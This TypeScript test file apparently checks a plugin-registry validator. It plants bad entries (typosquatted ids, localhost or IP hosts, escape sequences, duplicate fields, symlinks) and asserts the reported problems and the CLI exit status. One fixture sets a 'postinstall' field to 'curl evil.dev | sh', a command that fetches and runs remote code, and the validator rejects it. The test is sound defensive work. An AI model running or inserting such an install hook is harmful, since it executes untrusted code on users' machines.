/** Bad entries, planted as files. */
import { spawnSync } from 'node:child_process';
import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { temporaryFolder } from '@msp/testing';
import { expect, it } from 'vitest';
import { boards, called, linear } from '../../packages/registry/src/testing/sample.ts';
import { checkEntries } from './check-entries.ts';
import { formatJson } from './format-json.ts';
import { reportOf } from './report.ts';

/** A folder of entries: file name → text, or value. */
function planted(files: Readonly<Record<string, unknown>>): string {
  const folder = temporaryFolder();
  for (const [name, content] of Object.entries(files))
    writeFileSync(join(folder, name), typeof content === 'string' ? content : formatJson(content));
  return folder;
}

const check = (folder: string, files: string[] = []) =>
  checkEntries({ folder, files: files.map((name) => join(folder, name)), firstParty: ['linear'] });
const told = (folder: string, files: string[] = []) =>
  check(folder, files).map(({ problems }) => problems.map(({ field, message }) => `${field}: ${message}`));

it('good ones stand', () => {
  const folder = planted({ 'boards.json': boards, 'linear.json': linear });
  expect(told(folder)).toEqual([[], []]);
});

it('every entry is looked at, not the last one: three bad ones among good ones are all told', () => {
  const folder = planted({
    'a-first.json': called('a-first', { hosts: ['localhost'] }),
    'boards.json': boards,
    'linaer.json': called('linaer', { contract: 9 }),
    'linear.json': linear,
    'zebra.json': { ...called('zebra'), postinstall: 'curl evil.dev | sh' },
    'zoo.json': called('zoo'),
  });
  expect(told(folder)).toEqual([
    ['hosts[0]: localhost: it is no name on the internet'],
    [],
    [
      'id: linaer could be taken for linear (@msp/plugin-linear)',
      'contract: contract 9 is not known; the newest is 1',
    ],
    [],
    [': "postinstall" is no field of an entry'],
    [],
  ]);
});

it('chosen files are held against all others, wherever they are', () => {
  const folder = planted({ 'linear.json': linear, 'zoo.json': called('zoo', { hosts: ['localhost'] }) });
  const outside = planted({ 'linaer.json': called('linaer') });
  const question = { folder, files: [join(outside, 'linaer.json')], firstParty: ['linear'] };
  expect(checkEntries(question)).toMatchObject([{ problems: [{ field: 'id' }] }]);
});

it.each([
  ['no JSON', '{', /^: it is not JSON/],
  ['nothing', '', /^: it is not JSON/],
  ['a list', '[]', /it is missing|cannot stand here/],
  ['an escape sequence', '\u001b[2J', /^: it is not JSON/],
  ['far too long', ' '.repeat(100_001), /^: it has 100001 bytes/],
])('%s', (_, text, expected) => {
  const folder = planted({ 'boards.json': text });
  const [problems = []] = told(folder);
  expect(problems[0]).toMatch(expected);
  // biome-ignore lint/suspicious/noControlCharactersInRegex: this is what is looked for
  expect(reportOf(check(folder), folder).join('\n')).not.toMatch(/\u001b/);
});

it('a field that stands there twice, which a person and a program read otherwise', () => {
  const text = formatJson(boards).replace('"verified": false', '"verified": true,\n  "verified": false');
  expect(told(planted({ 'boards.json': text }))).toEqual([[expect.stringContaining('stands there twice')]]);
});

it('a name of the file that is not its id, a link, a folder, and no file at all', () => {
  const folder = planted({ 'other.json': boards });
  symlinkSync(join(folder, 'other.json'), join(folder, 'link.json'));
  mkdirSync(join(folder, 'nested'));
  expect(told(folder, ['other.json', 'link.json', 'nested', 'gone.json'])).toEqual([
    [': the file of boards is called other.json'],
    [': it is no file'],
    [': it is no file'],
    [': there is no such file'],
  ]);
});

it('one id in two files is told of both', () => {
  const folder = planted({ 'boards.json': boards, 'cards.json': boards });
  expect(told(folder).map(([first]) => first)).toEqual([
    'id: there is an entry of boards already',
    'id: there is an entry of boards already',
  ]);
});

it('the command prints every problem with what to do, and ends with 1', () => {
  const folder = planted({
    'bad.json': { ...boards, id: 'bad' },
    'worse.json': called('worse', { hosts: ['10.0.0.1'], replacedBy: 'gone' }),
    'zoo.json': called('zoo'),
  });
  const run = (...names: string[]) =>
    spawnSync(process.execPath, [join(import.meta.dirname, 'check.ts'), ...names], {
      cwd: folder,
      encoding: 'utf8',
    });
  const { status, stdout } = run('bad.json', 'worse.json', 'zoo.json');
  expect(stdout.split('\n')).toEqual([
    'REFUSED  bad.json',
    '  - package: msp-plugin-boards is not called by its id',
    '    Call the package msp-plugin-bad, or @<your scope>/msp-plugin-bad.',
    'REFUSED  worse.json',
    '  - hosts[0]: 10.0.0.1: it is a number, and no name',
    expect.stringMatching(/^ {4}Name the hosts of the tool\./),
    '  - replacedBy: there is no plugin gone',
    expect.stringMatching(/^ {4}Name the id/),
    'ok       zoo (msp-plugin-zoo 1.2.0)',
    '3 entries, 2 refused.',
    '',
  ]);
  expect(status).toBe(1);
  expect(run('zoo.json').status).toBe(0);
});
